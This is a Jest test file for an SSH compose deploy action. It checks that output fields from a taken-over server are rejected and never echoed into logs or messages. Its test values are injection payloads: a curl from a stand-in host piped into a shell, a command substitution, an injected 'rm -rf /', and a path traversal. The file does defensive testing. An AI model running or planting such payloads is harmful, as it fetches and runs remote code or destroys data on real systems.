import { afterEach, expect, test } from '@jest/globals';
import { hostsForEach, lyingSession } from '@deploy-actions/host/testing';
import type { Failure } from '@deploy-actions/kit';
import { deploy } from './ssh-compose-deploy.ts';
import { deployRig } from './testing/deploy-rig.ts';

const hostWith = hostsForEach(afterEach);

// A server that somebody has taken over writes what it likes: nothing of it becomes an output before it has its form.

test.each([
  ['release', 'x"; curl https://evil.test | sh; "'],
  ['changed_services', 'api $(curl evil.test)'],
  ['digests', 'api registry.test/shop/api@sha256:00"; rm -rf /\n'],
  ['previous', '../../../etc'],
])('a server that tells %s of another form is told of as damaged', async (name, value) => {
  const rig = deployRig(['web1'], hostWith);
  const world = rig.world('101');
  const connect = async (...server: Parameters<typeof world.connect>) =>
    lyingSession(await world.connect(...server), { [name]: value });
  const error = await deploy(rig.inputs('v1'), { ...world, connect }).then(
    () => undefined,
    (thrown: Failure) => thrown,
  );
  expect(error).toMatchObject({ kind: 'lost' });
  expect(error!.message).toContain(`"${name}" in its result is not `);
  const told = [
    error!.message,
    error!.remedy,
    JSON.stringify(error!.outputs ?? {}),
    ...world.log.lines,
    ...world.summaries,
  ].join('\n');
  expect(told).not.toContain(value);
});
